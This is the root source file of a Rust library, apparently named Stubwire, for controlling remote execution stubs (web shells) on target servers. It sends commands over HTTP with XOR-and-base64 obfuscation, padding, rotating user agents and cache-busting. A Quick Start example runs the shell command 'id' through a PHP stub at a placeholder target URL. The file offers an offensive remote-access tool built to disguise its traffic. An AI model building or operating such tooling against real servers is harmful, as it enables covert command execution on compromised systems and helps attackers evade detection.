//! # Stubwire
//!
//! Obfuscated HTTP channel and capability negotiation for minimal remote
//! execution stubs.
//!
//! Stubwire drives a small server-side stub over plain HTTP POST requests.
//! Every payload is compressed, XORed with a key derived from a shared
//! password, base64-encoded and framed between two password-derived markers
//! with random padding around them. On top of that channel, a prober finds
//! which of several equivalent execution vectors works on the target and pins
//! it in the session for later commands.
//!
//! The framing is obfuscation only. It offers no confidentiality, integrity
//! or authentication against anyone who knows or can guess the password.
//!
//! ## Features
//!
//! - Marker-framed wire format with camouflage padding
//! - Async HTTP transport via reqwest, with user agent pools and cache-busting
//! - Ordered vector registries with first-match search
//! - Once-per-session negotiation with pinned results, persisted as JSON
//!
//! ## Quick Start
//!
//! ```rust,no_run
//! use stubwire::{ChannelBuilder, CodeVector, CommandModule, FormatArgs, Prober, Session, VectorRegistry};
//!
//! #[tokio::main]
//! async fn main() -> Result<(), stubwire::Error> {
//!     let channel = ChannelBuilder::new("http://target.example/x.php")
//!         .password("hunter2")
//!         .build()?;
//!
//!     // Templates come from the caller; `${command}` is substituted.
//!     let registry = VectorRegistry::new()
//!         .with(CodeVector::new("primary", "<template using ${command}>")?)?;
//!     let prober = Prober::new(|token| FormatArgs::new().with("command", format!("echo {token}")));
//!     let shell = CommandModule::new("shell", registry, prober);
//!
//!     let mut session = Session::for_url("http://target.example/x.php");
//!     shell.setup(&channel, &mut session).await?;
//!
//!     let output = shell
//!         .run(&channel, &session, &FormatArgs::new().with("command", "id"))
//!         .await?;
//!     if let Some(output) = output {
//!         println!("{}", output);
//!     }
//!     Ok(())
//! }
//! ```

pub mod channel;
pub mod error;
pub mod module;
pub mod probe;
mod random;
pub mod session;
pub mod transport;
pub mod vector;

// Re-export main types for convenience
pub use channel::{Channel, ChannelBuilder, Framer, KeyMaterial, Padding};
pub use error::Error;
pub use module::CommandModule;
pub use probe::Prober;
pub use session::{Session, SessionEntry, Status};
pub use transport::{AgentPool, HttpConfig, HttpTransport, Transport};
pub use vector::{
    CodeVector, Decision, FormatArgs, Found, Os, Output, ShellVector, Vector, VectorRegistry,
};
